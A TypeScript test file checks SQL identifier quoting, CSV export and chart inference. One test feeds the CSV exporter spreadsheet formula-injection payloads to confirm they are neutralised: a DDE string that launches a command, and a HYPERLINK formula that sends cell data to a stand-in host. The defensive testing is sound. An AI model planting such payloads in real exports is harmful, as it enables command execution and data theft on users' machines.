import { expect, test } from 'vitest'
import { chartOf, csvOf, quoted } from './sql'

const column = (name: string) => ({ name, type: 'VARCHAR' })

test('names are quoted where SQL needs it', () => {
  expect(quoted('fact_sales')).toBe('fact_sales')
  expect(quoted('Odd "name"')).toBe('"Odd ""name"""')
})

test('CSV quotes what would be read as something else', () => {
  expect(
    csvOf({
      columns: [column('a'), column('b')],
      rows: [
        ['x, "y"', null],
        [1, { z: 2 }],
      ],
    }),
  ).toBe('a,b\r\n"x, ""y""",\r\n1,"{""z"":2}"\r\n')
})

const starts = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']
const before = ['', ' ', '"', "'", ' "', '\u00a0', '\n', ';', 'x;', 'x; ', 'x\n', 'x\t"', 'x\r\n']
const behind = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1;"ok")', 'SUM(A1)', '']
const isRun = /(^|[;\t\r\n])["\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/

test('no cell and no header of the CSV is run by a spreadsheet', () => {
  for (const start of starts)
    for (const left of before)
      for (const right of behind) {
        const text = left + start + right
        for (const csv of [
          csvOf({ columns: [column('a')], rows: [[text]] }).slice(3, -2),
          csvOf({ columns: [column(text)], rows: [] }).slice(0, -2),
          csvOf({ columns: [column('a')], rows: [[{ toJSON: () => text }]] }).slice(3, -2),
        ]) {
          const cell = csv.startsWith('"') ? csv.slice(1, -1).replaceAll('""', '"') : csv
          expect(isRun.test(cell), JSON.stringify(cell)).toBe(false)
          expect(/^[\t\r\n]/.test(cell), JSON.stringify(cell)).toBe(false)
        }
      }
})

test('numbers and plain texts stay as they are in the CSV', () => {
  for (const text of ['-1.5', '+7', '-.5e-3', '1e+20', '2026-01-01', 'a-b', 'a = b', 'x; y', "it's", ''])
    expect(csvOf({ columns: [column('a')], rows: [[text]] })).toBe(`a\r\n${text}\r\n`)
})

test('names and numbers become bars, days and numbers a line', () => {
  expect(
    chartOf({
      columns: [column('status'), column('net')],
      rows: [
        ['paid', '12.50'],
        ['new', '3'],
      ],
    }),
  ).toMatchObject({
    kind: 'bars',
    value: 'net',
    points: [
      { label: 'paid', value: 12.5 },
      { label: 'new', value: 3 },
    ],
  })
  expect(
    chartOf({
      columns: [column('day'), column('n')],
      rows: [
        ['2026-01-01', 1],
        ['2026-01-02', 2],
        ['2026-01-03', 3],
      ],
    })?.kind,
  ).toBe('line')
})

test('what holds no numbers is not drawn', () => {
  expect(chartOf({ columns: [column('a'), column('b')], rows: [['x', 'y']] })).toBeNull()
  expect(chartOf({ columns: [column('a')], rows: [[1]] })).toBeNull()
})
